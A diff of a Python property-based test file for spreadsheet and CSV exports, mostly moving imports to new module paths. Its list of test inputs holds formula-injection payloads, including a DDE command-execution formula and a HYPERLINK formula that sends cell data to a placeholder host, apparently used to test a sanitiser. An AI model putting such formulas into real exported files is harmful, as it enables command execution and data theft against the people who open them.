@@ -17,9 +17,9 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
-from app.domain.dossier import DossierPiece, Target, TargetKind, build_dossier_zip, indicators_csv
+from app.domain.reports.dossier import DossierPiece, Target, TargetKind, build_dossier_zip, indicators_csv
 from app.domain.enums import ContractType, LegalInstrument, Modality, Sex
-from app.domain.open_needs import OpenNeed, build_open_needs_xlsx
+from app.domain.liaison.open_needs import OpenNeed, build_open_needs_xlsx
 from app.domain.reports import (
     FseParticipant,
     ImpactRow,
@@ -30,7 +30,7 @@ from app.domain.reports import (
     compute_indicators,
 )
 from app.domain.timesheets import TemplateLine, build_timesheet_template
-from app.domain.xlsx import FORMULA_TRIGGERS, clean_text, csv_safe
+from app.domain.documents.xlsx import FORMULA_TRIGGERS, clean_text, csv_safe
 
 HEADS = ["=", "+", "-", "@", "\t", "\r", "\n", " =", "  +", "＝", "﹦", "=cmd|' /C calc'!A0",
          '=HYPERLINK("http://exemple.invalid/?d="&A1;"Cliquez")', "@SUM(1+1)", "+SUM(1)", "-2+3", "=1+2",
